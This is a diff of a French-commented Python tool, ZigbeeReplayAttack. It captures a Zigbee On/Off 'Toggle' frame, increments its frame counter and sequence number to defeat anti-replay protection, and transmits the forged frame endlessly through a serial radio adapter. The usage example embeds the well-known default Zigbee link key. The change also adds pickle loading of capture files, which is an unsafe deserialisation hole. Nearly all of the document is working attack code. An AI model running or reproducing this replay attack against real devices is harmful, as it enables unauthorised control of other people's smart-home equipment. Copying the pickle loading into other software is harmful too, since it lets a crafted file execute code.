@@ -12,31 +12,27 @@ Classes:
 
 Exemple d'utilisation:
     >>> from zigbee_replay_attack import ZigbeeReplayAttack
-    >>> attaque = ZigbeeReplayAttack(serial_port='/dev/ttyUSB0', aes_key='ma_cle_aes')
+    >>> attaque = ZigbeeReplayAttack(serial_port='/dev/ttyUSB0', aes_key='5a6967426565416c6c69616e63653039')
     >>> attaque.lancer_attaque_replay(capture_live=True)
 """
 
-import sys
 import os
 import json
+import pickle
 import logging
-import random
 import serial
-import threading
 import queue
 import time
-import hashlib
-from typing import Dict, Optional, List
-from Cryptodome.Cipher import AES
+from typing import Optional
 
 from CodeurTrame import CodeurTrameZigbee
 from DecodeurTrame import DecodeurTrameZigbee
-from sniff import SniffeurZigbee
+from sniff import SniffeurZigbee, COMMANDE_MODE_TX
 from frame_counter import ZigbeeFrameFinder
 
 # Configuration du logging pour suivre l'exécution et enregistrer les événements
 logging.basicConfig(
-    level=logging.DEBUG,
+    level=logging.INFO,
     format='%(asctime)s - %(levelname)s - %(message)s',
     handlers=[
         logging.StreamHandler(),
@@ -45,6 +41,11 @@ logging.basicConfig(
 )
 logger = logging.getLogger(__name__)
 
+# Taille des tampons du pilote série demandée à l'ouverture du port d'envoi (en octets)
+TAILLE_TAMPON_SERIE = 1 << 16
+# Clé de filtre (type, cluster_id, command_id) d'une commande Toggle du cluster On/Off
+FILTRE_TOGGLE = ('Data', '0600', '02')
+
 
 class ZigbeeReplayAttack:
     """
@@ -99,7 +100,7 @@ class ZigbeeReplayAttack:
         Port série utilisé pour communiquer avec l'adaptateur ZigBee. Si None, une détection
         automatique sera tentée. Par défaut None.
     aes_key : Optional[str], optionnel
-        Clé AES pour déchiffrer/chiffrer les trames ZigBee sécurisées. 
+        Clé AES (128 bits, en hexadécimal) pour déchiffrer/chiffrer les trames ZigBee sécurisées. 
         Si None, les trames chiffrées ne seront pas traitées. Par défaut None.
     materiel : str, optionnel
         Type de matériel utilisé pour la capture ('nrf52' ou 'esp32h2'). Par défaut 'nrf52'.
@@ -110,6 +111,8 @@ class ZigbeeReplayAttack:
     - L'objet ZigbeeFrameFinder est utilisé pour gérer les compteurs de trames et numéros de séquence.
     - Les instances de CodeurTrameZigbee et DecodeurTrameZigbee sont utilisées pour encoder et
       décoder les trames ZigBee.
+    - Lorsque `aes_key` est fournie, elle est transmise au sniffer, qui déchiffre les trames
+      capturées sécurisées (voir `sniff.decrypter_payloads_batch`).
     
     Exemple
     -------
@@ -134,6 +137,7 @@ class ZigbeeReplayAttack:
             vitesse_bauds=115200,
             materiel=materiel
         )
+        self.sniffer.cle_dechiffrement = aes_key or ""
         self.framefinder = ZigbeeFrameFinder()
         self.captures = []
         self.replay_queue = queue.Queue()
@@ -164,10 +168,13 @@ class ZigbeeReplayAttack:
     -----
     - La méthode réinitialise le sniffer avant de commencer la capture pour éviter 
       des interférences avec des captures précédentes.
-    - Les trames de type Data ne correspondant pas aux critères sont affichées à des fins
-      de diagnostic et supprimées de la liste des captures.
-    - La méthode effectue un polling à intervalle régulier de 0.1 seconde pour vérifier
-      les nouvelles captures.
+    - Les trames de type Data ne correspondant pas aux critères, ainsi que le décodage de la
+      trame retenue, sont journalisés au niveau DEBUG à des fins de diagnostic (aucun travail
+      de décodage n'est fait à un niveau supérieur). Les captures sont retirées de la deque du sniffer avec `popleft()`
+      à mesure qu'elles sont examinées : le coût est O(1) par trame, sans reparcours.
+    - La méthode attend l'événement `nouvelle_capture` du sniffer plutôt que d'interroger
+      la liste des captures à intervalle régulier : une trame est traitée dès son arrivée.
+      L'échéance est calculée sur `time.monotonic()`, insensible aux ajustements d'horloge.
     
     Exceptions
     ----------
@@ -188,37 +195,44 @@ class ZigbeeReplayAttack:
         logger.info("Attente d'une trame Toggle...")
         self.sniffer.demarrer_sniffer()
         
-        start_time = time.time()
-        while time.time() - start_time < timeout:
-            if self.sniffer.captures:
-                for capture in self.sniffer.captures:
-                    try:
-                        
-                        # Filtrage de la trame selon le type, le cluster, le command_id et la taille
-                        if (capture.get('type_trame') == 'Data' and
-                            capture.get('couche_aps', {}).get('cluster_id', '').lower() == '0600' and
-                            capture.get('couche_zcl', {}).get('command_id', '').lower() == '02') and len(capture['metadonnees']['trame_brute']) < 100:
-                            
-                            hex_data = capture['metadonnees']['trame_brute']
-                            
-                            # Décodage de la trame pour affichage (facultatif)
-                            decode = DecodeurTrameZigbee()
-                            octets = bytes.fromhex(hex_data)
-                            print(decode.decoder_trame_data(octets))
-                            
-                            logger.info("Trame Toggle détectée")
-                            
-                            self.sniffer.arreter_sniffer()
-                            self.sniffer.reinitialiser()
-                            return hex_data
-                        else:
-                            # Afficher la trame si elle n'est pas conforme aux critères et la supprimer
-                            if capture.get('type_trame') == 'Data' and len(capture['metadonnees']['trame_brute']) < 95:
-                                print(capture['metadonnees']['trame_brute'])
-                            self.sniffer.captures.remove(capture)
-                    except KeyError:
+        echeance = time.monotonic() + timeout
+        captures = self.sniffer.captures
+        while True:
+            # Attente passive d'une nouvelle capture signalée par le sniffer
+            restant = echeance - time.monotonic()
+            if restant <= 0 or not self.sniffer.nouvelle_capture.wait(timeout=restant):
+                break
+            self.sniffer.nouvelle_capture.clear()
+
+            # Les captures sont consommées au fil de l'eau : chacune n'est examinée qu'une fois
+            while captures:
+                capture = captures.popleft()
+                try:
+                    # Clé de filtre précalculée par le sniffer : seules les trames Data
+                    # sont examinées, les autres sont écartées d'emblée
+                    cle_filtre = capture['cle_filtre']
+                    if cle_filtre[0] != 'Data':
                         continue
-            time.sleep(0.1)
+                    hex_data = capture['metadonnees']['trame_brute']
+                    taille = len(hex_data)
+                    
+                    # Filtrage de la trame selon la taille, le cluster et le command_id
+                    if cle_filtre == FILTRE_TOGGLE and taille < 100:
+                        
+                        # Décodage de la trame pour affichage, uniquement en mode DEBUG
+                        if logger.isEnabledFor(logging.DEBUG):
+                            logger.debug(self.decodeur.decoder_trame_data(bytes.fromhex(hex_data)))
+                        
+                        logger.info("Trame Toggle détectée")
+                        
+                        self.sniffer.arreter_sniffer()
+                        self.sniffer.reinitialiser()
+                        return hex_data
+                    elif taille < 95 and logger.isEnabledFor(logging.DEBUG):
+                        # Afficher la trame si elle n'est pas conforme aux critères
+                        logger.debug("Trame Data non retenue : %s", hex_data)
+                except KeyError:
+                    continue
             
         self.sniffer.arreter_sniffer()
         logger.error("Timeout: Aucune trame Toggle trouvée")
@@ -248,6 +262,8 @@ class ZigbeeReplayAttack:
     - Les compteurs sont incrémentés à chaque itération pour contourner les protections
       anti-replay du protocole ZigBee.
     - Si aucune trame n'est capturée initialement, la méthode se termine sans erreur.
+    - Les trames sont écrites par `os.write` directement sur le descripteur du port
+      (voir `_ecriture_directe`), sans repasser par la couche Python de pyserial.
     
     Exceptions
     ----------
@@ -267,41 +283,100 @@ class ZigbeeReplayAttack:
         if not trame_initiale:
             return
         
-        # Suppression des 4 derniers octets de la trame initiale
-        trame_initiale = trame_initiale[:-4]
-        print("Trame initiale : ", trame_initiale)
+        # Conversion unique en octets ; le FCS (2 derniers octets) est retiré sur les octets
+        trame_bytes = bytearray.fromhex(trame_initiale)
+        del trame_bytes[-2:]
+        logger.info("Trame initiale : %s", trame_bytes.hex())
         
         try:
-            with serial.Serial(self.serial_port, baudrate=115200, timeout=1) as ser:
-                logger.info(f"Début de l'envoi sur {self.serial_port}")
+            # write_timeout=None : l'écriture ne rend la main qu'une fois la trame entière
+            # confiée au pilote, jamais de trame tronquée sur un tampon plein.
+            # exclusive=True : verrou sur le port (flock sous POSIX) pour qu'aucun autre
+            # programme n'y écrive pendant l'attaque
+            with serial.Serial(self.serial_port, baudrate=115200, timeout=1, write_timeout=None,
+                               exclusive=True) as ser:
+                # Mode faible latence (ASYNC_LOW_LATENCY sous Linux) : supprime le délai du
+                # temporisateur des adaptateurs USB-série ; ignoré si non pris en charge
+                try:
+                    ser.set_low_latency_mode(True)
+                except (AttributeError, NotImplementedError, OSError, ValueError) as e:
+                    logger.debug("Mode faible latence indisponible : %s", e)
+                # Agrandir les tampons du pilote lorsque la plateforme le permet (Windows) ;
+                # sous Linux la taille du tampon tty est fixée par le noyau
+                if hasattr(ser, 'set_buffer_size'):
+                    ser.set_buffer_size(rx_size=TAILLE_TAMPON_SERIE, tx_size=TAILLE_TAMPON_SERIE)
+                logger.info("Début de l'envoi sur %s", self.serial_port)
                 if self.sniffer.materiel == 'esp32h2':
-                    ser.write(bytes("#CMD#MODE_TX",'utf-8'))
+                    ser.write(COMMANDE_MODE_TX)
+                # La trame est conservée en octets, préfixe de trame (0x61) compris, et
+                # modifiée sur place : plus d'aller-retour hexadécimal à chaque envoi
+                trame_bytes.insert(0, 0x61)
+
                 # Modification de la trame en incrémentant le compteur de trame
-                trame_modifiee = self.framefinder.increment_frame_counter(trame_initiale)
-                print("Trame modifiée : ", trame_modifiee)
-                trame_bytes = bytes.fromhex(trame_modifiee)
+                self.framefinder.increment_frame_counter_bytes(trame_bytes)
+                logger.info("Trame modifiée : %s", trame_bytes[1:].hex())
+
+                # Méthodes et niveau de log résolus une fois pour toutes avant la boucle
+                ecrire = self._ecriture_directe(ser)
+                incrementer = self.framefinder.increment_counters_bytes
+                attendre = time.sleep
+                debug = logger.isEnabledFor(logging.DEBUG)
 
                 # Envoi en boucle de la trame modifiée
                 while True:
                     try:
-                        # Préfixe de trame ('61') ajouté à la trame modifiée
-                        ser.write(bytes.fromhex('61') + trame_bytes)
-                        logger.debug(f"Trame envoyée : {trame_bytes.hex()}")
-                        time.sleep(3) 
-                        print("Trame envoyée : ", trame_bytes.hex())
+                        ecrire(trame_bytes)
+                        # La conversion hexadécimale n'est faite que si le niveau DEBUG est actif
+                        if debug:
+                            logger.debug("Trame envoyée : %s", trame_bytes[1:].hex())
+                        attendre(3) 
                         
                         # Incrémentation du compteur de trame et du numéro de séquence pour la prochaine itération
-                        trame_modifiee = self.framefinder.increment_frame_counter(trame_bytes.hex(), increment=1)
-                        trame_modifiee = self.framefinder.increment_sequence_number(trame_modifiee, increment=1)
-
-                        trame_bytes = bytes.fromhex(trame_modifiee)
-                        print("Trame modifiée (extrait compteur) : ", trame_bytes.hex()[-8:-6])
+                        incrementer(trame_bytes)
+                        if debug:
+                            logger.debug("Trame modifiée (extrait compteur) : %02x", trame_bytes[-4])
                         
                     except Exception as e:
-                        logger.error(f"Erreur d'envoi : {e}")
+                        logger.error("Erreur d'envoi : %s", e)
                         break
         except serial.SerialException as e:
-            logger.error(f"Erreur port série : {e}")
+            logger.error("Erreur port série : %s", e)
+
+    @staticmethod
+    def _ecriture_directe(ser):
+        """
+    Retourne une fonction d'écriture d'une trame sur le port série ouvert.
+    
+    Lorsque le port expose un descripteur de fichier (pyserial sous POSIX), la trame est
+    écrite par un unique appel système `os.write`. Si le pilote n'accepte qu'une partie
+    de la trame, ou si le descripteur est momentanément plein, le reste est confié à
+    `ser.write`, qui attend que le port soit prêt. Sans descripteur (Windows), `ser.write`
+    est retourné tel quel.
+    
+    Paramètres
+    ----------
+    ser : serial.Serial
+        Port série ouvert sur lequel envoyer les trames.
+    
+    Retourne
+    --------
+    callable
+        Fonction prenant la trame (bytes ou bytearray) à envoyer.
+    """
+        try:
+            fd = ser.fileno()
+        except (AttributeError, OSError, serial.SerialException):
+            return ser.write
+
+        def ecrire(trame):
+            try:
+                envoye = os.write(fd, trame)
+            except BlockingIOError:
+                envoye = 0
+            if envoye < len(trame):
+                ser.write(trame[envoye:])
+
+        return ecrire
 
     def lancer_attaque_replay(self, capture_live: bool = True):
         """
@@ -312,9 +387,9 @@ class ZigbeeReplayAttack:
     1. Mode capture en direct: capture des trames en temps réel, puis rejeu
     2. Mode fichier: utilisation de trames précédemment capturées depuis un fichier
     
-    Un thread dédié est créé pour exécuter la fonction `envoyer_trames_en_boucle()`,
-    qui gère l'envoi répété des trames modifiées. La méthode attend la fin de ce thread
-    avant de se terminer.
+    La fonction `envoyer_trames_en_boucle()`, qui gère l'envoi répété des trames modifiées,
+    est appelée directement dans le thread courant : la méthode ne rend la main qu'à la
+    fin de l'envoi, et un Ctrl+C reste reçu par le thread principal.
     
     Paramètres
     ----------
@@ -326,8 +401,9 @@ class ZigbeeReplayAttack:
     Notes
     -----
     - En mode fichier (capture_live=False), la méthode tente de charger les captures 
-      depuis le fichier spécifié lors de l'initialisation.
-    - L'exécution est bloquante jusqu'à la fin du thread d'envoi, qui normalement
+      depuis le fichier spécifié lors de l'initialisation : JSON, ou pickle si son
+      extension est '.pickle' (chargement direct des trames décodées).
+    - L'exécution est bloquante jusqu'à la fin de l'envoi, qui normalement
       s'exécute indéfiniment jusqu'à ce qu'une erreur se produise ou que l'utilisateur
       l'interrompe manuellement.
     
@@ -354,12 +430,15 @@ class ZigbeeReplayAttack:
             if capture_live:
                 logger.info("Mode capture live activé")
             else:
-                with open(self.capture_file, 'r') as f:
-                    self.captures = json.load(f)
+                if self.capture_file.endswith('.pickle'):
+                    # Trames déjà décodées, sauvegardées par le sniffer au format pickle
+                    with open(self.capture_file, 'rb') as f:
+                        self.captures = pickle.load(f)
+                else:
+                    with open(self.capture_file, 'rb') as f:
+                        self.captures = json.load(f)
 
-            thread_replay = threading.Thread(target=self.envoyer_trames_en_boucle)
-            thread_replay.start()
-            thread_replay.join()
+            self.envoyer_trames_en_boucle()
 
         except Exception as e:
-            logger.error(f"Échec de l'attaque : {e}")
+            logger.error("Échec de l'attaque : %s", e)